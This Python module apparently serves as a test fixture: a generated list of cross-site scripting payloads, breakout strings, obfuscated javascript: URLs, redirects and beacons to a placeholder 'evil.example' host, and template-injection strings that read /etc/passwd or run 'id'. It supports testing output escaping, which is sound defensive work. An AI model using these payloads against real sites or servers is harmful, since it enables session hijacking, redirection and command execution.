"""Texts that would run in a page that does not escape them: each calls ``X()``, leaves the site, or clobbers a name."""

from __future__ import annotations

EVIL = "https://evil.example"

BREAKOUTS = ("", '">', "'>", "</title>", "</textarea></style>", "-->", "</script>", "]]>", '" x="')

VECTORS = (
    "<script>X()</script>",
    "<img src=x onerror=X()>",
    "<svg onload=X()>",
    "<svg><script>X()</script></svg>",
    '<iframe srcdoc="<script>parent.X()</script>"></iframe>',
    "<details open ontoggle=X()>",
    "<input autofocus onfocus=X()>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=X()>",
    f"<base href={EVIL}/>",
    f'<meta http-equiv=refresh content="0;url={EVIL}/">',
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<img src={EVIL}/p.gif>",
)

SINGLES = (
    "' onmouseover=X() x='",
    '" onmouseover=X() x="',
    "` onmouseover=X() x=`",
    "x onmouseover=X()",
    "x onfocus=X() autofocus",
    "<!--<script>",
    "<!--<script>X()//--></script>",
    "</script><script>X()",
    "\u2028X()//",
    "';X()//",
    '";X()//',
    "javascript:X()",
    "JaVaScRiPt:X()",
    "java\tscript:X()",
    "\x01javascript:X()",
    "&#106;avascript:X()",
    "vbscript:X()",
    "data:text/html,<script>X()</script>",
    f"//{EVIL[8:]}",
    f"\\\\{EVIL[8:]}",
    f"{EVIL}/p.gif",
    f"![x]({EVIL}/p.gif)",
    "[x](javascript:X())",
    f"url({EVIL}/p.gif)",
    f"</style><style>@import '{EVIL}/x.css';",
    "expression(X())",
    '<form action="javascript:X()"><button autofocus>',
    '<object data="javascript:X()">',
    '<embed src="javascript:X()">',
    "<template><script>X()</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=X()>">',
    "{{ 7*7 }}{% include '/etc/passwd' %}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "%s{0.__class__}$(id)`id`",
    "</head></body></html><script>X()</script>",
    '<a id=location name=getElementById href="javascript:X()">',
    "__proto__",
    "0;url=javascript:X()",
    "<marquee onstart=X()>",
    "<video><source onerror=X()></video>",
    "<x contenteditable autofocus onfocus=X()>",
    '<svg><a xlink:href="javascript:X()"><text y=20>x</text></a></svg>',
    "<svg><animate onbegin=X() attributeName=x dur=1s>",
    '<a href="javascript:X()">x</a>',
    "<body onpageshow=X()>",
    "<scr<script>ipt>X()</scr</script>ipt>",
    "\ufeff<script>X()</script>",
    "<script\x0b>X()</script>",
)

PAYLOADS = (*(breakout + vector for breakout in BREAKOUTS for vector in VECTORS), *SINGLES)
"""The groups C-1 to C-22: every way out of a context with every thing to do there, and what stands alone."""
